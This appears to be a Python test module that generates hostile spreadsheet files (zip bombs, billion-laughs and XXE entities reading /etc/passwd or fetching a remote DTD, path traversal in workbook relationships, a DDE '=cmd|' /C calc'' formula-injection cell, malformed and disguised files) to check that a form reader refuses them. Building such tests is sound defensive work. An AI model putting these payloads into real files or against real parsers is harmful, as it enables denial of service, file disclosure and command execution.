"""Hostile workbooks that are no forms, or none that may be read: bombs, entities, floods, lies; and disguises."""

from __future__ import annotations

import random
import struct
from collections.abc import Iterable, Iterator
from io import BytesIO

import msoffcrypto.format.ooxml

from tests.excel.raw_files import cell, ods_parts, record, row, table, wide, xlsx_parts
from tests.excel.raw_files import xlsb as xlsb_file
from tests.filled import parts_of, with_parts, written, zipped
from tests.hostile.parts import (
    BOF,
    BOF_SHEET,
    EOF,
    Expectation,
    Thing,
    biff,
    boundsheet,
    deflated,
    flood,
    members,
    ole,
    refused,
    unrecognised,
    zip_of,
)
from tests.inbox.things import RAR, SEVENZIP, TNEF
from tests.sample_inbox import INBOX


def xlsx(cells: str, **options: object) -> bytes:
    """A workbook with one sheet, the same bytes each time."""
    return zipped(xlsx_parts(cells, **options))  # type: ignore[arg-type]


def ods(tables: str, **options: str) -> bytes:
    """An .ods file, the same bytes each time."""
    return zipped(ods_parts(tables, **options))


def xlsb(sheet: bytes, strings: Iterable[str] = ()) -> bytes:
    """An .xlsb with one sheet, the same bytes each time."""
    return zipped(parts_of(xlsb_file(sheet, strings=strings)))


ONE = row(cell("A1", "<v>1</v>"))
SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
PASSWD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % e SYSTEM "http://203.0.113.9/x.dtd"> %e;]>'


def workbooks(*, heavy: bool) -> Iterator[Thing]:
    """Workbooks that must not be read, or have nothing to read."""
    yield from _bombs()
    yield from _entities()
    yield from _lies()
    yield from _floods(heavy=heavy)
    yield from _damaged()
    yield from _encrypted()


def _bombs() -> Iterator[Thing]:
    parts = members(xlsx_parts(ONE))
    spaces = [p for p in parts if p.name != SHEET]
    yield refused("炸弹/空格.xlsx", zip_of(*spaces, flood(SHEET, 1000)), "F109")
    yield refused("炸弹/谎报大小.xlsx", zip_of(*spaces, flood(SHEET, 200, declared=100)), "F109")
    yield refused("炸弹/图片.xlsx", zip_of(*parts, flood("xl/media/image1.bmp", 200, chunk=bytes(1 << 20))), "F109")
    yield refused(
        "炸弹/重叠.xlsx", zip_of(*parts, deflated("xl/a.xml", random.Random(1).randbytes(9000)), times=50), "F109"
    )
    yield refused("炸弹/太多部件.xlsx", zip_of(*parts, *(deflated(f"xl/{n}.xml", b"") for n in range(3000))), "F109")
    content = [p for p in members(_ods_parts()) if p.name != "content.xml"]
    yield refused("炸弹/空格.ods", zip_of(*content, flood("content.xml", 200)), "F109")


def _ods_parts() -> dict[str, bytes]:
    return parts_of(ods(table("<table:table-row/>")))


def _entities() -> Iterator[Thing]:
    strings = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>%s</t></si></sst>'
    text = row(cell("A1", "<v>0</v>", "s"))
    laughing = xlsx_parts(text, strings=["<t>x</t>"]) | {"xl/sharedStrings.xml": LAUGHS + strings % "&j;"}
    yield refused("实体/笑.xlsx", zipped(laughing), "F109")
    yield refused("实体/笑.utf16.xlsx", zipped(laughing | {"xl/sharedStrings.xml": (LAUGHS + strings % "&j;").replace(
        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16")}), "F109")  # fmt: skip
    for name, declared in (("密码文件", PASSWD), ("外部定义", PARAMETER)):
        for part in (SHEET, "xl/workbook.xml", "[Content_Types].xml"):
            parts = xlsx_parts(ONE)
            parts[part] = declared + str(parts[part]).replace("<v>1</v>", "<is><t>&e;</t></is>")
            yield refused(f"实体/{name}-{part.rpartition('/')[2]}.xlsx", zipped(parts), "F109")
    content = _ods_parts()
    for name, declared in (("笑", LAUGHS), ("密码文件", PASSWD)):
        yield refused(
            f"实体/{name}.ods", zipped(content | {"content.xml": declared.encode() + content["content.xml"]}), "F109"
        )


def _lies() -> Iterator[Thing]:
    """Workbooks whose parts say one thing to one reader and another to the next."""
    doubled = [*members(xlsx_parts(ONE)), deflated(SHEET, b"<worksheet><sheetData/></worksheet>")]
    yield refused("谎言/同名部件.xlsx", zip_of(*doubled), "F135")
    yield refused("谎言/大小写同名部件.xlsx", zip_of(*doubled[:-1], deflated(SHEET.upper(), b"<worksheet/>")), "F135")
    for name, target in (
        ("绝对路径", "file:///etc/passwd"),
        ("爬出去", "../../../../../../etc/passwd"),
        ("网址", "http://203.0.113.9/s.xml"),
    ):
        parts = xlsx_parts(ONE)
        rels = "xl/_rels/workbook.xml.rels"
        parts[rels] = str(parts[rels]).replace("worksheets/sheet1.xml", target)
        yield refused(f"谎言/工作表在{name}.xlsx", zipped(parts), "F104")
    tabs = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(2, 2000))
    many = xlsx_parts(ONE)
    many["xl/workbook.xml"] = str(many["xl/workbook.xml"]).replace("</sheets>", tabs + "</sheets>")
    yield refused("谎言/两千张表一个部件.xlsx", zipped(many), "F109")
    yield refused("谎言/没有的字符串.xlsx", xlsx(row(cell("A1", "<v>99</v>", "s")), strings=["<t>x</t>"]), "F104")
    deep = xlsx_parts(ONE) | {SHEET: "<a>" * 200_000}
    yield refused("谎言/二十万层标签.xlsx", zipped(deep), "F135")


def _floods(*, heavy: bool) -> Iterator[Thing]:
    yield unrecognised(
        "洪水/天涯海角.xlsx",
        xlsx(row(cell("A1", "<v>1</v>")) + row(cell("XFD1048576", "<v>1</v>"), number=1048576)),
        "T101",
    )
    yield unrecognised("洪水/尺寸谎报.xlsx", xlsx(ONE, head='<dimension ref="A1:XFD1048576"/>'), "T101")
    yield unrecognised(
        "洪水/整张合并.xlsx", xlsx(ONE, tail='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), "T101"
    )
    cells = '<table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"/>'
    rows = f'<table:table-row table:number-rows-repeated="1048576">{cells}</table:table-row>'
    yield unrecognised("洪水/一行抵百亿.ods", ods(table(rows)), "T101")
    yield refused("洪水/百亿乘五十.ods", ods("".join(table(rows, f"S{n}") for n in range(50))), "F109")
    far = record(0, struct.pack("<I", 1048575) + bytes(13)) + record(
        5, struct.pack("<II", 16383, 0) + struct.pack("<d", 1)
    )
    yield refused("洪水/天涯海角.xlsb", xlsb(far), "F108")
    strings = record(159, struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF)) + record(19, b"\0" + wide("x")) + record(160)
    yield refused(
        "洪水/四十亿字符串.xlsb", with_parts(xlsb(b"", strings=["x"]), {"xl/sharedStrings.bin": strings}), "F104"
    )
    if heavy:
        empty = b"".join(b'<row r="%d" spans="1:9" s="1" customFormat="1"/>' % n for n in range(1, 1_000_001))
        parts = xlsx_parts("", formats=[9])
        parts[SHEET] = str(parts[SHEET]).encode().replace(b"<sheetData>", b"<sheetData>" + empty)
        yield unrecognised("洪水/百万空行.xlsx", zipped(parts), "T101")


def crowds() -> Iterator[Thing]:
    """Millions of cells or strings: packed so small that they are refused, or large enough to be let in.

    Whether the last two are read in time depends on the machine; either way they cost no more than their time.
    """
    cells = xlsx_parts('<row r="1"><c r="A1"/>' + '<c r="B1"/>' * 5_000_000 + "</row>")
    yield refused("五百万单元格.xlsx", zipped(cells, level=1), "F109")
    strings = xlsx_parts(row(cell("A1", "<v>0</v>", "s")), strings=["<t>x</t>"])
    part = str(strings["xl/sharedStrings.xml"])
    strings["xl/sharedStrings.xml"] = part.replace("<si>", "<si><t>y</t></si>" * 2_000_000 + "<si>")
    yield refused("两百万字符串.xlsx", zipped(strings, level=1), "F109")
    dice = random.Random(6)
    numbers = [dice.randbytes(2).hex() for _ in range(200_000)]
    for name, codes in (("单元格", '<c r="B1"><v>0x%s</v></c>'), ("字符串", "<si><t>%s</t></si>")):
        dice.shuffle(numbers)
        text = "".join(codes % number for number in numbers) * 9
        parts = xlsx_parts(row(cell("A1", "<v>0</v>", "s")) + (text if name == "单元格" else ""), strings=["<t>x</t>"])
        if name == "字符串":
            parts["xl/sharedStrings.xml"] = str(parts["xl/sharedStrings.xml"]).replace("<si>", text + "<si>")
        path = f"两百万{name}，不好压缩.xlsx"
        lines = tuple(Expectation(path, "", (code,)) for code in ("T101", "F104", "F108", "F109", "F116", "F135"))
        yield Thing(path, zipped(parts, level=1), lines)


def _damaged() -> Iterator[Thing]:
    form = written("101")
    yield refused("损坏/半截.xlsx", form[: len(form) // 2], "F102")
    yield refused("损坏/少一字节.xlsx", form[:-1], "F104")
    xls = (INBOX / "县林业局自评表（更正）.xls").read_bytes()
    yield refused("损坏/半截.xls", xls[: len(xls) // 2], "F102")
    yield refused("损坏/半截.ods", (INBOX / "云岭镇.ods").read_bytes()[:9000], "F102")
    yield refused("损坏/只有头.xls", xls[:512], "F102")
    changed = bytearray(form)
    changed[form.index(b"PK\x01\x02") + 16] ^= 1  # a bit of a check sum
    yield refused("损坏/一个字节.xlsx", bytes(changed), "F104")
    # Records that end in the middle: at the first of them the fast library panics.
    for name, broken in (
        ("表名", (0x0085, b"\0")),
        ("字体", (0x0031, b"\0")),
        ("字符串", (0x00FC, b"\1\0\0\0\1\0\0\0\xff\xff")),
    ):
        stream = biff(BOF, broken, boundsheet(200), EOF).ljust(200, b"\0") + biff(BOF_SHEET, EOF)
        yield refused(f"损坏/断在{name}.xls", ole({"Workbook": stream}), "F104")
    far = (0x0203, struct.pack("<HHHd", 65535, 65535, 0, 1.0))
    stream = biff(BOF, boundsheet(100), EOF).ljust(100, b"\0") + biff(BOF_SHEET, far, EOF)
    yield refused("损坏/列号六万.xls", ole({"Workbook": stream}), "F104")
    yield refused("损坏/转圈.xls", ole({"Workbook": stream * 40}, loop=True), "F104")


def _encrypted() -> Iterator[Thing]:
    out = BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(BytesIO(written("101"))).encrypt("geheim", out)
    locked = out.getvalue()
    yield refused("加密/密码.xlsx", locked, "F103")
    yield refused("加密/冒充xls.xls", locked, "F103")
    yield refused("加密/要算一年.xlsx", locked.replace(b'spinCount="100000"', b'spinCount="999999"'), "F103")
    entry = "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
    yield refused("加密/密码.ods", ods(table(""), manifest=entry), "F103")
    yield refused(
        "加密/压缩包式.xlsx",
        zip_of(*(deflated(str(p.name), p.data, flags=1) for p in members(xlsx_parts(ONE)))),
        "F103",
    )


def disguises() -> Iterator[Thing]:
    """Other things under a workbook's name."""
    html = b"<html><head><meta charset=utf-8></head><body><table><tr><td>=cmd|' /C calc'!A0</td></tr></table></body></html>"
    yield refused("冒充/网页.xls", html, "F106")
    mht = (
        b'MIME-Version: 1.0\r\nX-Document-Type: Workbook\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n'
        b"--x\r\nContent-Location: file:///C:/sheet001.htm\r\nContent-Type: text/html\r\n\r\n<table></table>\r\n--x--\r\n"
    )
    yield refused("冒充/单个网页.xls", mht, "F106")
    yield refused("冒充/文本.xlsx", "编码,自评分\n1.1.1,4\n".encode("gbk"), "F107")
    yield refused("冒充/表格.csv", b"\xef\xbb\xbfa,b\r\n=1+1,@SUM(A1)\r\n", "F107")
    yield refused("冒充/文档.xlsx", zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}), "F105")
    yield refused("冒充/扫描件.xls", b"%PDF-1.7\n" + bytes(range(256)), "F105")
    yield refused("冒充/空.xlsx", b"", "F101")
    yield refused("冒充/全零.xlsx", bytes(70_000), "F101")
    yield refused("冒充/乱码.xlsx", random.Random(3).randbytes(5000), "F110")
    yield refused("冒充/乱码有头.xlsx", b"PK\x03\x04" + random.Random(4).randbytes(5000), "F102")
    yield refused("冒充/乱码有头.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(5).randbytes(5000), "F102")
    yield refused("冒充/文档.et", ole({"WordDocument": b"x"}), "F105")
    yield refused("冒充/邮件.xlsx", ole({"__properties_version1.0": b"x"}), "F115")
    yield refused("冒充/压缩.xlsx", RAR, "F111")
    yield refused("冒充/压缩.xls", SEVENZIP, "F111")
    yield refused("冒充/winmail.dat", TNEF, "F121")
    svg = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><Workbook>&x;</Workbook>'
    yield refused("冒充/数据.xls", svg, "F105")
